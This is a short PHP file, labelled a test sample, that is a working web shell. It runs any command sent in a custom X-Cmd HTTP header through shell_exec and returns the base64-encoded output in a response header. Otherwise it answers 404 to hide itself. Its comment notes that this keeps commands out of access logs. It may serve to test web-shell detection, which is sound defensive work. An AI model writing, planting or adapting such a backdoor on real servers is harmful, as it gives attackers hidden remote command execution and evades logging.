<?php
// Test sample: command taken from a custom HTTP request header, so it never
// appears in access logs as a query string.
if (isset($_SERVER['HTTP_X_CMD'])) {
    header('X-Out: ' . base64_encode(shell_exec($_SERVER['HTTP_X_CMD'])));
    exit;
}
http_response_code(404);
